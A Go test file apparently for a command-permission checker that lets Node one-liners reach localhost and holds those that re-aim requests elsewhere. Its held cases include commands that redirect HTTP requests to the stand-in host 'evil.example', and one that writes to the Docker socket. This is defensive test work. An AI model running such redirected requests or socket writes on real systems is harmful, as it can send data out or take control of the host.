package rules_test

import "testing"

// TestTraffic20NodeBoundOptions: agents test the local server with a
// helper that declares Node's options once (const opt = {hostname:
// 'localhost', port: 5000, path, method, headers: {...}}) and sends with
// http.request(opt, cb), setting a header on it afterwards: the request
// goes to this machine only. The options re-aimed later (opt.hostname =
// ..., Object.assign), declared twice, a parameter of that name, a host
// elsewhere, a socket path, an agent or a headers object that is not flat
// stay held.
func TestTraffic20NodeBoundOptions(t *testing.T) {
	const head = "node -e \"\nconst http = require('http');\nfunction req(method, path, body, token) {\n  return new Promise((resolve, reject) => {\n"
	const tail = "    const r = http.request(opt, res => { let d=''; res.on('data',c=>d+=c); res.on('end',()=>resolve({s:res.statusCode,d})); });\n    r.on('error',reject);\n    if(body)r.write(JSON.stringify(body));r.end();\n  });\n}\nreq('POST','/api/v1/auth/login',{email:'a@b.c',password:'x'}).then(r=>console.log(r.s));\n\" 2>&1"
	const local = "    const opt = {hostname:'localhost',port:5000,path,method,headers:{'Content-Type':'application/json','X-Timestamp':new Date().toISOString()}};\n"
	const hdr = "    if(token) opt.headers['Authorization'] = 'Bearer '+token;\n"
	checkTiersIn(t, "/w/app", "/home/dev", nil, []tierCase{
		{"node-bound-local", head + local + tail, "pass"},
		{"node-bound-local", head + local + hdr + tail, "pass"},
		{"node-bound-local", "docker compose exec server " + head + local + hdr + tail, "pass"},
		{"node-bound-local", "node -e \"const https=require('https'); const o={host:'127.0.0.1',port:8443,path:'/health'}; https.get(o, r=>console.log(r.statusCode))\"", "pass"},

		{"node-bound-away", head + "    const opt = {hostname:'api.example.com',port:443,path,method,headers:{'Content-Type':'application/json'}};\n" + tail, "held"},
		{"node-bound-away", head + local + "    opt.hostname = process.env.TARGET;\n" + tail, "held"},
		{"node-bound-away", head + local + "    Object.assign(opt, {hostname:'evil.example'});\n" + tail, "held"},
		{"node-bound-away", head + local + "    opt.headers.x = 1; const o2 = opt; o2.hostname='evil.example';\n" + tail, "held"},
		{"node-bound-away", head + "    let opt = {hostname:'localhost',port:5000,path,method};\n    opt = {hostname:'evil.example',port:80,path,method};\n" + tail, "held"},
		{"node-bound-away", head + "    const opt = {hostname:'localhost',port:5000,path,method,...extra};\n" + tail, "held"},
		{"node-bound-away", head + "    const opt = {hostname:'localhost',socketPath:'/var/run/docker.sock',path,method};\n" + tail, "held"},
		{"node-bound-away", head + "    const opt = {hostname:'localhost',port:5000,path,method,agent:tunnel};\n" + tail, "held"},
		{"node-bound-away", head + "    const opt = {hostname:'localhost',port:5000,path,method,headers:{a:{b:1}}};\n" + tail, "held"},
		{"node-bound-away", "node -e \"const http=require('http'); const opt={hostname:'localhost',port:5000}; function go(opt){http.request(opt).end()}; go({hostname:'evil.example'})\"", "held"},
		{"node-bound-away", "node -e \"const net=require('net'); const o={host:'localhost', path:'/var/run/docker.sock'}; const s=net.connect(o, ()=>s.write('x'))\"", "held"},
	})
}
